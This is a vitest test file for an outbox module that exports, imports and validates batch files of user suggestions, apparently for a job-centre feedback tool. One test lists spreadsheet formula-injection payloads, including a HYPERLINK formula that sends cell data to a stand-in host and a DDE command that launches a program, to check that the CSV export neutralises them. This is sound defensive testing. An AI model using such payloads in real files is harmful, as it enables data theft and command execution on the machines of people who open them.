import 'fake-indexeddb/auto';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { makeSuggestion } from '../../tests/fixtures/make-suggestion';
import type { Suggestion } from '../model';
import { openLocalStore, type LocalStore } from '../store';
import { createOutbox, MAX_BATCH_BYTES, MAX_IMPORT_BYTES, OutboxError, type Outbox } from '.';

const source = { kind: 'extension', version: '0.1.0', site: 'https://jobcenter-musterstadt.example' } as const;
let stores: LocalStore[] = [];
afterEach(() => {
  stores.forEach((store) => store.close());
  stores = [];
});

async function device(): Promise<{ store: LocalStore; outbox: Outbox }> {
  const store = await openLocalStore({ name: `test-${crypto.randomUUID()}` });
  stores.push(store);
  return { store, outbox: createOutbox({ store, source }) };
}

/** A batch file as an offline caseworker's device exports it. */
async function exportedFile(suggestions: Suggestion[] = [makeSuggestion(), makeSuggestion()]) {
  const { store, outbox } = await device();
  for (const suggestion of suggestions) await store.suggestions.add(suggestion, 'queued');
  const [entry] = (await outbox.queue('all-unsent')).created;
  return { json: await outbox.exportJson(entry!.batch.batchId), csv: await outbox.exportCsv(entry!.batch.batchId), batch: entry!.batch };
}

async function failure(run: () => Promise<unknown>): Promise<OutboxError> {
  const error = await run().then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(OutboxError);
  return error as OutboxError;
}

async function expectNothingImported({ store, outbox }: { store: LocalStore; outbox: Outbox }) {
  expect(await store.suggestions.count()).toBe(0);
  expect(await outbox.list()).toEqual([]);
}

describe('exported batch files', () => {
  it('are the batch itself, named by date and batch, and can be imported on another device', async () => {
    const { json, batch } = await exportedFile();
    expect(json).toMatchObject({ fileName: `mitgestalten-paket-${batch.createdAt.slice(0, 10)}-${batch.batchId.slice(0, 8)}.json`, mimeType: 'application/json' });
    expect(JSON.parse(json.text)).toEqual(batch);

    const elsewhere = await device();
    const report = await elsewhere.outbox.importBatchFile(json.text);
    expect(report).toEqual({ outcome: 'imported', batchIds: [batch.batchId], added: batch.suggestions.map((s) => s.id), alreadyKnown: [] });
    // Imported unchanged, same batchId: if the batch also reaches the backlog another way, it is stored once.
    expect((await elsewhere.outbox.list())[0]).toMatchObject({ batch, state: 'queued', origin: 'imported' });
  });
});

describe('importing batch files', () => {
  it('ignores a file imported again, and suggestions it already has', async () => {
    const { json, batch } = await exportedFile();
    const target = await device();
    await target.outbox.importBatchFile(json.text);
    const again = await target.outbox.importBatchFile(new Blob([json.text]));
    expect(again).toMatchObject({ outcome: 'already-imported', added: [] });
    expect(await target.store.suggestions.count()).toBe(2);
    expect(await target.outbox.list()).toHaveLength(1);

    // Another file holding one known and one new suggestion: only the new one is added.
    const fresh = makeSuggestion();
    const overlapping = await exportedFile([batch.suggestions[0]!, fresh]);
    expect(await target.outbox.importBatchFile(overlapping.json.text)).toMatchObject({
      outcome: 'imported',
      added: [fresh.id],
      alreadyKnown: [batch.suggestions[0]!.id],
    });
    expect(await target.store.suggestions.get(batch.suggestions[0]!.id)).toMatchObject({ batchId: batch.batchId });
    expect(await target.store.suggestions.count()).toBe(3);
  });

  it('rejects malformed JSON, saying where, and imports nothing', async () => {
    const { json } = await exportedFile();
    const target = await device();
    const error = await failure(() => target.outbox.importBatchFile(json.text.slice(0, 400)));
    expect(error.problem.code).toBe('file.not-json');
    const broken = json.text.replace('"schemaVersion": 1,', '"schemaVersion": 1,,');
    expect((await failure(() => target.outbox.importBatchFile(broken))).problem).toMatchObject({ code: 'file.not-json', params: { line: 3 } });
    await expectNothingImported(target);
  });

  it('names a file of another format version as such', async () => {
    const { json } = await exportedFile();
    const target = await device();
    const newer = JSON.stringify({ ...JSON.parse(json.text), schemaVersion: 2 });
    const error = await failure(() => target.outbox.importBatchFile(newer));
    expect(error.problem).toEqual({ code: 'file.schema-version', params: { found: '2', supported: 1 } });
    await expectNothingImported(target);
  });

  it('reports every problem with its path and imports nothing, not even the valid suggestions', async () => {
    const { json } = await exportedFile([makeSuggestion(), makeSuggestion(), makeSuggestion()]);
    const data = JSON.parse(json.text);
    data.suggestions[1].page.url = 'https://jobcenter.example/antrag?kundennummer=123A456789';
    delete data.suggestions[2].problem;
    data.source.kind = 'fax';
    const target = await device();
    const error = await failure(() => target.outbox.importBatchFile(JSON.stringify(data)));
    expect(error.problem).toMatchObject({ code: 'file.invalid', params: { count: 3 } });
    expect(error.problem.fields!.map((field) => `${field.path} ${field.code}`).sort()).toEqual(['source.kind value', 'suggestions[1].page.url other', 'suggestions[2].problem missing']);
    await expectNothingImported(target);
  });

  it('refuses an oversize file by its size alone, before reading it, naming the limit', async () => {
    const target = await device();
    const text = vi.fn(async () => '{}');
    const huge = { size: 25_000_000, text } as unknown as Blob;
    const error = await failure(() => target.outbox.importBatchFile(huge));
    expect(error.problem).toEqual({ code: 'file.too-large', params: { size: 25_000_000, limit: 10_000_000 } });
    expect(text).not.toHaveBeenCalled();
    expect(MAX_IMPORT_BYTES).toBe(10_000_000);

    const { json } = await exportedFile();
    expect((await failure(() => target.outbox.importBatchFile(json.text, { maxBytes: 1_000 }))).problem.params).toMatchObject({ limit: 1_000 });
    await expectNothingImported(target);
  });

  it('neutralises formula payloads in the CSV export and refuses to import a CSV file', async () => {
    const payloads = ['=HYPERLINK("https://boese.example/?d="&A1;"Klick")', '+1+2', '-1+cmd|\' /C calc\'!A0', '@SUMME(A1:A9)'];
    const { csv } = await exportedFile(payloads.map((payload) => makeSuggestion({ problem: payload, proposal: payload })));
    expect(csv).toMatchObject({ mimeType: 'text/csv;charset=utf-8', fileName: expect.stringMatching(/\.csv$/) });
    for (const payload of payloads) {
      expect(csv.text).toContain(`"'${payload.replaceAll('"', '""')}"`);
      expect(csv.text).not.toContain(`;"${payload.replaceAll('"', '""')}"`);
    }
    const target = await device();
    const error = await failure(() => target.outbox.importBatchFile(csv.text));
    expect(error.problem.code).toBe('file.is-csv');
    await expectNothingImported(target);
  });

  it('answers a hostile file with thousands of problems in a few, bounded lines', async () => {
    const { json } = await exportedFile([makeSuggestion()]);
    const data = JSON.parse(json.text);
    data.suggestions = Array.from({ length: 400 }, () => ({ ...data.suggestions[0], id: 'x'.repeat(5_000), ['k'.repeat(10_000)]: 1 }));
    const target = await device();
    const error = await failure(() => target.outbox.importBatchFile(JSON.stringify(data)));
    expect(error.problem.code).toBe('file.invalid');
    expect(error.problem.params!.count).toBeGreaterThanOrEqual(400);
    expect(error.problem.fields).toHaveLength(5);
    expect(JSON.stringify(error.problem).length).toBeLessThan(2_000);
    expect(error.message.length).toBeLessThan(1_000);
    await expectNothingImported(target);
  });

  it('splits a valid file too large for any backlog into batches a backlog accepts, all in one go', async () => {
    // A file another system wrote (we never build one this large): 500 suggestions of about 9 KB each,
    // valid by the schema but over the 5 MB a backlog must accept in one request.
    const long = 'Das Feld ist unklar. '.repeat(250);
    const suggestions = Array.from({ length: 500 }, () => makeSuggestion({ problem: long.slice(0, 4_500), proposal: long.slice(0, 4_500) }));
    const batch = { batchId: crypto.randomUUID(), schemaVersion: 1, createdAt: '2026-11-20T08:00:00.000Z', source, suggestions };
    const json = { text: JSON.stringify(batch) };
    expect(new TextEncoder().encode(json.text).length).toBeGreaterThan(4_500_000);
    const target = await device();
    const report = await target.outbox.importBatchFile(json.text);
    expect(report.outcome).toBe('imported');
    expect(report.batchIds.length).toBeGreaterThan(1);
    expect(report.batchIds).not.toContain(batch.batchId);
    const entries = await target.outbox.list();
    expect(entries.flatMap((entry) => entry.batch.suggestions.map((s) => s.id)).sort()).toEqual(suggestions.map((s) => s.id).sort());
    for (const entry of entries) expect(new TextEncoder().encode(JSON.stringify(entry.batch, null, 2)).length).toBeLessThanOrEqual(MAX_BATCH_BYTES);
    expect(await target.outbox.importBatchFile(json.text)).toMatchObject({ outcome: 'nothing-new' });
  });
});
